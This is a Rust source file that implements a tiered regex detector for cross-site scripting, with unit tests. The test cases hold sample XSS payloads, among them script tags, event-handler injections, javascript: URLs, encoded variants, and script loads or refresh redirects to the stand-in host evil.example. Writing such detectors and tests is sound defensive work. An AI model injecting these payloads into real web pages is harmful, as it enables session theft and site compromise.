//! Cross-site scripting detector.

use once_cell::sync::Lazy;

use super::{PatternTier, PayloadDetector, TieredPatterns};

static XSS_PATTERNS: Lazy<TieredPatterns> = Lazy::new(|| {
    TieredPatterns::new(
        &[
            r"(?is)<script\b[^>]*>.*?</script\s*>",
            r#"(?i)<[^>]+\bon\w+\s*=\s*['"]?[^'" >]+"#,
            r"(?i)\b(javascript|vbscript|data)\s*:",
        ],
        &[
            r"(?is)<iframe\b[^>]*>.*?</iframe\s*>",
            r"(?is)<object\b[^>]*>.*?</object\s*>",
            r"(?is)<embed\b[^>]*>",
            r#"(?is)<[^>]+style\s*=\s*['"][^'"]*(expression|url)\s*\("#,
            r#"(?is)<(form|link|base)\b[^>]*(action|href)\s*=\s*['"]?\s*(javascript|data):"#,
        ],
        // critical: unclosed tags, DOM sinks, entity obfuscation
        &[
            r"(?i)<script\b",
            r"(?i)<iframe\b",
            r"(?is)<applet\b",
            r#"(?is)<meta\b[^>]*http-equiv\s*=\s*['"]?refresh"#,
            r#"(?is)<img\b[^>]*src\s*=\s*['"]?\s*(javascript|data):"#,
            r#"(?is)<[^>]+formaction\s*=\s*['"]?\s*(javascript|data):"#,
            r"(?is)<svg\b",
            r"(?is)<math\b",
            r#"(?is)src\s*=\s*['"]?data:[^'" >]+;base64,"#,
            r"(?i)&#x[0-9a-f]{1,6};?|&#[0-9]{1,7};?",
            r"(?i)&(lt|gt|quot|apos|colon|sol|lpar|rpar|tab|newline);",
            r"(?is)(innerHTML|outerHTML|textContent)\s*=\s*.*<(script|object)",
            r"(?is)document\.write\s*\(.*<script",
            r#"(?i)document\.createElement\s*\(\s*['"]script['"]\s*\)"#,
        ],
    )
});

#[derive(Debug, Clone, Copy)]
pub struct XssDetector {
    tier: PatternTier,
}

impl XssDetector {
    pub fn new(tier: PatternTier) -> Self {
        Self { tier }
    }
}

impl PayloadDetector for XssDetector {
    fn matches_text(&self, text: &str) -> bool {
        XSS_PATTERNS
            .for_tier(self.tier)
            .any(|pattern| pattern.is_match(text))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn test_critical_flags_payloads() {
        let detector = XssDetector::new(PatternTier::Critical);
        for payload in [
            "<script>alert(1)</script>",
            "<SCRIPT src=//evil.example/x.js>",
            r#"<img src=x onerror="alert(1)">"#,
            "<a href='javascript:alert(1)'>x</a>",
            "<svg/onload=alert(1)>",
            "&#x3C;script&#x3E;",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            r#"<iframe srcdoc="<p>x</p>"></iframe>"#,
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example">"#,
        ] {
            assert!(detector.detect_str(payload), "missed: {payload}");
        }
    }

    #[test]
    fn test_standard_passes_benign_input() {
        let detector = XssDetector::new(PatternTier::Standard);
        for text in [
            "Jane Doe",
            "jane.doe@example.com",
            "1 < 2 and 3 > 2",
            "metadata: none",
            "See https://example.com/page?a=1&b=2",
        ] {
            assert!(!detector.detect_str(text), "false positive: {text}");
        }
    }

    #[test]
    fn test_tiers_are_cumulative() {
        let basic = XssDetector::new(PatternTier::Basic);
        let standard = XssDetector::new(PatternTier::Standard);
        let payload = "<iframe src=https://evil.example></iframe>";
        assert!(!basic.detect_str(payload));
        assert!(standard.detect_str(payload));

        let unclosed = "<script src=https://evil.example/a.js>";
        assert!(!standard.detect_str(unclosed));
        assert!(XssDetector::new(PatternTier::Critical).detect_str(unclosed));
    }

    #[test]
    fn test_structured_input() {
        let detector = XssDetector::new(PatternTier::Basic);
        assert!(!detector.detect(&json!({"n": 1, "ok": true, "none": null})));
        assert!(detector.detect(&json!({"bio": ["fine", "<script>x</script>"]})));
    }
}
